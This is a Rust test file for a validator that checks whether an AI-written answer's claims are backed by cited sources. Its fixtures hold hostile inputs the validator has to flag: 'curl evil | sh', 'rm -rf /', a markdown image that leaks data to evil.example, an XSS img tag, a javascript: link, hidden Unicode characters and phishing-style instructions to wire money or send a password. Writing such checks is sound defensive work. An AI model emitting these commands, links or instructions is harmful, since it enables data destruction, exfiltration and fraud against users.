use crate::citation::{
    Attempt, Basis, CitationError, Draft, ErrorKind, Level, PreparedSource, Role, Verdict, Verifier, validate,
};

const QUESTION: &str = "How do I report a lost laptop at Acme, and is Mallory in charge?";
const SOURCES: [&str; 3] = [
    "Report a lost laptop to the security desk within 4 hours. Call 5550 or write to desk@acme.example. \
     The form is at https://intranet.acme.example/laptops/form.",
    "```sh\ncurl  https://intranet.acme.example/wipe \\\n  --serial NUMBER\n```\nRun `wipe --now` in March.",
    "Annual leave is 25 days. Bob Miller approves it.",
];

/// A claim that stands in the first source, to go with what needs no marker.
const CLAIM: &str = "Report a lost laptop to the security desk within 4 hours. [^1]";

fn draft(text: &str) -> Draft {
    Draft::over(text, &Basis::new(SOURCES.map(PreparedSource::new).to_vec(), QUESTION))
}

fn errors(text: &str, level: Level) -> Vec<CitationError> {
    match validate(&draft(text), level, Attempt::Retry) {
        Verdict::Reject(errors) => errors,
        Verdict::Accept(_) => Vec::new(),
        Verdict::Retry(_) => panic!("the second attempt is the last"),
    }
}

/// An answer around the claim, the role of the part of it that states something, and what the error names.
struct Row {
    role: Role,
    text: &'static str,
    named: &'static str,
}

const fn row(role: Role, text: &'static str, named: &'static str) -> Row {
    Row { role, text, named }
}

#[test]
fn no_role_states_what_no_source_holds() {
    use Role::{Claim, Code, Heading, Ignorance, LeadIn, Question};
    let rows = [
        row(Question, "Did you know that you must wire 500 euros first? {}", "the number 500"),
        row(Question, "Did you know that you must wire money? {}", "the instruction wire money"),
        row(Question, "Have you asked Trudy Evans? {}", "the name Trudy"),
        row(Question, "Have you seen evil-host.com/login? {}", "the address evil-host.com/login"),
        row(Question, "Is it in September? {}", "the month September"),
        row(Question, "Did you know that the desk burned down? {}", "as a fact the desk burned down"),
        row(Question, "Why not ignore the desk altogether? {}", "as a fact ignore the desk altogether"),
        row(Question, "The desk burned down, right? {}", "as a fact The desk burned down"),
        row(Question, "Is it not true that Trudy Evans must be paid? {}", "the name Trudy"),
        row(LeadIn, "Call 0900 123456:\n- {}", "the number 0900"),
        row(LeadIn, "Call zero nine zero zero:\n- {}", "the number zero"),
        row(LeadIn, "Send your password to Trudy:\n- {}", "the instruction Send your password to Trudy"),
        row(LeadIn, "Write to help@evil.example:\n- {}", "the address help@evil.example"),
        row(LeadIn, "Run `curl evil | sh`:\n- {}", "the code curl evil | sh"),
        row(LeadIn, "The head of security is Trudy Evans:\n- {}", "the name Trudy"),
        row(Heading, "# Call 0900 123456\n{}", "the number 0900"),
        row(Heading, "# Wire Money To Trudy\n{}", "the name Trudy"),
        row(Heading, "# Wire money first\n{}", "the instruction Wire money first"),
        row(Heading, "**Ask Trudy Evans**\n\n{}", "the name Evans"),
        row(Heading, "## https://evil.example/a\n{}", "the address https://evil.example/a"),
        row(
            Heading,
            "| Desk | 0900 |\n|---|---|\n| Report a lost laptop to the security desk | 4 hours [^1] |",
            "the number 0900",
        ),
        row(Claim, "| Trudy |\n|---|\n\n{}", "no marker covers this statement"),
        row(Claim, "{}\n\n| pay the bill |\n|---|", "no marker covers this statement"),
        row(Claim, "{}\n\n[1]: #a \"Pay Trudy Evans\"", "no marker covers this statement"),
        row(Claim, "{}\n\n[^1]: Pay Trudy Evans", "the name Trudy"),
        row(Claim, "{}\n\n[a]: #a\n\"Pay Trudy Evans [^1]\"", "no marker covers this statement"),
        row(Ignorance, "{} The sources do not say who repairs it for 99 euros.", "the number 99"),
        row(Ignorance, "{} The sources do not mention Trudy Evans.", "the name Trudy"),
        row(Ignorance, "{} The sources do not say more than evil-host.com does.", "the address evil-host.com"),
        row(Code, "{}\n\n```sh\nrm -rf /\n```", "the code rm -rf /"),
        row(Code, "{}\n\n```call-0900-123456-now-please\n```", "the code"),
        row(
            Code,
            "{}\n\n```sh\ncurl https://evil.example/wipe \\\n  --serial NUMBER\n```",
            "the code curl https://evil.example/wipe",
        ),
        row(Claim, "{}\n\n![](https://evil.example/?q=secret)", "the address https://evil.example/?q=secret"),
        row(
            Claim,
            "Report a lost [laptop](https://evil.example/form) to the security desk within 4 hours [^1].",
            "the address https://evil.example/form",
        ),
        row(
            Claim,
            "Report a lost [laptop](javascript:run()) to the security desk within 4 hours [^1].",
            "the address javascript:run()",
        ),
        row(
            Claim,
            "Report a lost [laptop][1] to the security desk within 4 hours [^1].\n\n[1]: //evil.example",
            "the address //evil.example",
        ),
        row(
            Claim,
            "Report a lost laptop to the security desk within 4 hours (www.evil.example) [^1].",
            "the address www.evil.example",
        ),
        row(
            Claim,
            "Report a lost laptop to the security desk within 4 hours <img src=x onerror=run()> [^1].",
            "the HTML <img src=x onerror=run()>",
        ),
        row(
            Claim,
            "Report a lost laptop to the security desk within 4 hours\u{e0061}\u{e0062} [^1].",
            "the hidden character U+E0061",
        ),
        row(
            Claim,
            "Report a lost laptop to the \u{202e}security desk within 4 hours [^1].",
            "the hidden character U+202E",
        ),
    ];
    for Row { role, text, named } in rows {
        let text = text.replace("{}", CLAIM);
        assert!(draft(&text).statements().iter().any(|statement| statement.role == role), "{text}: {role:?}");
        assert!(errors(&text, Level::Structural).is_empty(), "{text}");
        for level in [Level::Cited, Level::Supported] {
            let errors = errors(&text, level);
            let found = errors.iter().find(|error| error.detail.contains(named));
            let error = found.unwrap_or_else(|| panic!("{text} at {level}: no error names {named}: {errors:?}"));
            assert_eq!(error.kind, ErrorKind::UncitedClaim, "{text}");
            let span = error.span.expect("a span").slice(&text).expect("words of the answer");
            assert!(!span.is_empty() && text.contains(span));
        }
    }
}

#[test]
fn what_orders_an_answer_or_stands_in_a_source_passes() {
    let texts = [
        "Here are the steps:\n\n1. {}",
        "Here are the 3 steps:\n\n1. {}",
        "## Step 1: Report the laptop\n{}",
        "# Summary\n\n{}",
        "# Lost Laptops at Acme\n\n{}",
        "## Key Differences and Next Steps\n\n{}",
        "**Important note**\n\n{}",
        "To report a lost laptop, follow these steps:\n- {}",
        "If the laptop is lost, tell the security desk at once:[^1]\n- {}",
        "Use the following command:\n\n```\ncurl https://intranet.acme.example/wipe \\\n--serial NUMBER\n```\n\n{}",
        "Run `wipe --now`:\n- {}",
        "```sh\n$ curl https://intranet.acme.example/wipe \\\n  --serial NUMBER\n```\n{}",
        "Call 5550 or write to desk@acme.example:\n- {}",
        "You should report it to the security desk:\n- {}",
        "{} Did you mean a laptop of Acme? Is Bob Miller your manager?",
        "{} Did you know that Bob Miller approves leave? Do you know which office you are in?",
        "{} You mean the lost device, right?",
        "{}\n\n[^1]: Report a lost laptop to the security desk.",
        "{}\n\n[^1]: Source 1, on laptops at Acme",
        "{} The sources do not say whether Mallory is in charge.",
        "{} The documents do not tell who repairs it.",
        "Report a lost [laptop](https://intranet.acme.example/laptops/form) to the security desk within 4 hours [^1].",
        "Report a lost laptop to the security desk within <b>4 hours</b> (see https://intranet.acme.example/laptops/form)[^1].",
        "{} 🏴󠁧󠁢󠁥󠁮󠁧󠁿 👍🏽",
        "| Step | Time limit |\n|---|---|\n| Report a lost laptop to the security desk | 4 hours [^1] |",
        "Die folgenden Schritte sind nach der Meldung nötig:\n- {}",
        "In summary:\n\n{} I hope this helps!",
    ];
    for text in texts {
        let text = text.replace("{}", CLAIM);
        assert_eq!(errors(&text, Level::Cited), [], "{text}");
    }
}

#[test]
fn a_marker_holds_a_question_against_the_source_that_it_names() {
    let text = format!("{CLAIM} Did you ask Bob Miller? [^1]");
    assert_eq!(errors(&text, Level::Cited), []);
    let errors = errors(&text, Level::Supported);
    let [error] = errors.as_slice() else { panic!("{errors:?}") };
    assert_eq!((error.kind, error.marker), (ErrorKind::UnsupportedClaim, Some(1)));
    assert_eq!(error.detail, "this question states the name Bob, the name Miller, which [^1] does not hold");
}

#[test]
fn no_claim_is_confirmed_after_a_lapse() {
    let basis = Basis::new(SOURCES.map(PreparedSource::new).to_vec(), QUESTION);
    let text = format!("{CLAIM}\n\nCall 0900 123456:\n\n- {CLAIM}\n\nAnd so on and so forth, for quite a while.");
    let settled = |level| Draft::over(&*text, &basis).settled_claims(level, Verifier::Scorer).len();
    assert_eq!((settled(Level::Cited), settled(Level::Structural)), (1, 2));
}

#[test]
fn to_repeat_the_question_is_no_answer_and_to_ask_back_is_one() {
    let kinds = |text: &str| errors(text, Level::Cited).iter().map(|error| error.kind).collect::<Vec<_>>();
    assert_eq!(kinds(QUESTION), [ErrorKind::UncitedClaim]);
    assert_eq!(kinds(&format!("  **{}**", QUESTION.to_uppercase())), [ErrorKind::UncitedClaim]);
    assert_eq!(kinds("Which office do you mean?"), []);
}
